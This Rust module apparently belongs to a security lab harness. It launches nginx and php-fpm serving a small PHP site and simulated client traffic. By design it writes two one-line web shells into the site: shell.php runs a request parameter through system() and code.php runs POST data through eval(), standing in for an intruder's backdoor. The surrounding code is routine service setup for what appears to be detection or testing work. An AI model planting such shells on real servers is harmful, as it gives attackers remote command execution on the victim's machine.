//! nginx in front of PHP, a small site with an upload form and a log-in, and a page that an intruder
//! left: `shell.php` gives its parameter to a shell, `code.php` runs it inside the worker.

use std::{fs, path::Path};

use super::{START_LIMIT, curl_clients};
use crate::{
    error::{At, Result},
    lab::{Lab, User},
    network::Site,
    process::{Running, listens, wait_until},
};

/// Port of nginx.
pub const PHP_PORT: u16 = 8082;

const PAGES: [(&str, &str); 5] = [
    ("index.php", include_str!("../service/index.php")),
    ("login.php", include_str!("../service/login.php")),
    ("shell.php", "<?php system($_REQUEST['c']);\n"),
    ("code.php", "<?php eval($_POST['c']);\n"),
    ("style.css", "body { margin: 0 }\n"),
];

pub(super) fn start(lab: &Lab) -> Result<Vec<Running>> {
    let user = User::named("www-data")?;
    let home = lab.subdirectory("nginx", &user)?;
    let root = lab.subdirectory("site", &user)?;
    for (name, text) in PAGES {
        let path = root.join(name);
        fs::write(&path, text).at("write", &path)?;
        std::os::unix::fs::chown(&path, Some(user.uid), Some(user.gid)).at("chown", &path)?;
    }
    let php = php(lab, &home)?;
    let nginx = nginx(lab, &home, &root)?;
    let paths = "index.php style.css 'index.php?q=apple' index.php missing 'login.php?u=a&p=b'";
    Ok(vec![curl_clients(lab, "nginx", PHP_PORT, paths)?, nginx, php])
}

fn php(lab: &Lab, home: &Path) -> Result<Running> {
    let home = home.display();
    let conf = format!(
        "[global]\nerror_log = {home}/php.log\ndaemonize = no\n[site]\nuser = www-data\n\
         group = www-data\nlisten = {home}/php.sock\nlisten.owner = www-data\npm = static\n\
         pm.max_children = 3\nclear_env = no\n"
    );
    let path = lab.directory().join("php-fpm.conf");
    fs::write(&path, conf).at("write", &path)?;
    let mut command = lab.command(Site::Service, "php", &User::ROOT, &newest_fpm()?)?;
    command.arg("-F").arg("-n").arg("-y").arg(&path);
    let server = Running::start(command, &lab.directory().join("php.log"))?;
    let socket = lab.directory().join("nginx/php.sock");
    if wait_until(START_LIMIT, || socket.exists()) {
        return Ok(server);
    }
    Err(server.not_ready("php-fpm", START_LIMIT))
}

fn nginx(lab: &Lab, home: &Path, root: &Path) -> Result<Running> {
    let conf = include_str!("../service/nginx.conf")
        .replace("@HOME@", &home.display().to_string())
        .replace("@ROOT@", &root.display().to_string())
        .replace("@PORT@", &PHP_PORT.to_string());
    let path = lab.directory().join("nginx.conf");
    fs::write(&path, conf).at("write", &path)?;
    let mut command = lab.command(Site::Service, "nginx", &User::ROOT, "/usr/sbin/nginx")?;
    command.arg("-p").arg(home).arg("-c").arg(&path);
    let server = Running::start(command, &lab.directory().join("nginx.log"))?;
    if wait_until(START_LIMIT, || listens(&server, PHP_PORT)) {
        return Ok(server);
    }
    Err(server.not_ready("nginx", START_LIMIT))
}

/// `/usr/sbin/php-fpmN` with the largest N.
fn newest_fpm() -> Result<String> {
    let entries = fs::read_dir("/usr/sbin").at("list", "/usr/sbin")?;
    let found = entries.filter_map(|entry| {
        let name = entry.ok()?.file_name().into_string().ok()?;
        name.starts_with("php-fpm").then_some(name)
    });
    let missing = || crate::Error::Missing("php-fpm (package php-fpm)".into());
    found.max().map(|name| format!("/usr/sbin/{name}")).ok_or_else(missing)
}
